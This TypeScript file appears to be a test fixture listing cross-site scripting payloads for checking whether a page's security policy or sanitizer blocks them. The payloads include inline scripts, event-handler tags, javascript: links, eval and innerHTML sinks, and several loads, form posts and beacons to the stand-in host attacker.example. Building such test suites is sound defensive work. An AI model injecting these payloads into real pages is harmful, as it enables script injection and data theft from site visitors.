/** Markup injected into a page, or a script of ours that passes a visitor's text to a sink. */
export interface Payload {
  readonly name: string;
  readonly html?: string;
  readonly script?: string;
  readonly click?: boolean;
}

const mark = `document.documentElement.dataset.broken='yes'`;
const theirs = 'https://attacker.example';
const image = `<img src=x onerror="${mark}">`;
const quotedImage = JSON.stringify(image);

export const payloads: readonly Payload[] = [
  { name: 'an inline script', html: `<script>${mark}</script>` },
  { name: 'an inline module', html: `<script type="module">${mark}</script>` },
  { name: "another server's script", html: `<script src="${theirs}/a.js"></script>` },
  {
    name: 'a script from a data address',
    html: `<script src="data:text/javascript,${mark}"></script>`,
  },
  { name: 'a handler on an image', html: image },
  { name: 'a handler on a drawing', html: `<svg onload="${mark}"></svg>` },
  { name: 'a handler on a focused field', html: `<input autofocus onfocus="${mark}">` },
  { name: 'a handler on a details element', html: `<details open ontoggle="${mark}">x</details>` },
  {
    name: 'a script address in a link',
    html: `<a id="planted" href="javascript:void(${mark})">x</a>`,
    click: true,
  },
  {
    name: 'a frame with its own document',
    html: `<iframe srcdoc="<script>parent.${mark}</script>"></iframe>`,
  },
  { name: "another server's frame", html: `<iframe src="${theirs}/frame"></iframe>` },
  { name: "another server's object", html: `<object data="${theirs}/object"></object>` },
  { name: 'a new base address', html: `<base href="${theirs}/"><script src="a.js"></script>` },
  { name: "another server's stylesheet", html: `<link rel="stylesheet" href="${theirs}/a.css">` },
  {
    name: 'an inline style that reports',
    html: `<style>main{background:url(${theirs}/seen)}</style>`,
  },
  { name: 'an image that reports', html: `<img src="${theirs}/seen.png">` },
  {
    name: 'a form that posts elsewhere',
    html: `<form action="${theirs}/steal" method="post"><button id="planted">x</button></form>`,
    click: true,
  },
  {
    name: 'a preload that reports',
    html: `<link rel="preload" as="fetch" crossorigin href="${theirs}/seen">`,
  },
  {
    name: 'innerHTML',
    script: `document.body.insertBefore(document.createElement('p'),null).innerHTML=${quotedImage}`,
  },
  {
    name: 'insertAdjacentHTML',
    script: `document.documentElement.insertAdjacentHTML('beforeend',${quotedImage})`,
  },
  { name: 'document.write', script: `document.write(${quotedImage})` },
  { name: 'eval', script: `eval("${mark}")` },
  { name: 'a function made of text', script: `new Function("${mark}")()` },
  { name: 'a timer with text', script: `setTimeout("${mark}")` },
  {
    name: 'a script element made by script',
    script: `const s=document.createElement('script');s.src='${theirs}/a.js';document.head.append(s)`,
  },
  {
    name: 'a script element with text',
    script: `const s=document.createElement('script');s.text="${mark}";document.head.append(s)`,
  },
  {
    name: 'a contextual fragment',
    script: `document.documentElement.append(document.createRange().createContextualFragment(${quotedImage}))`,
  },
  { name: 'a fetch that reports', script: `void fetch('${theirs}/seen',{mode:'no-cors'})` },
  { name: 'a beacon that reports', script: `navigator.sendBeacon('${theirs}/seen','x')` },
];
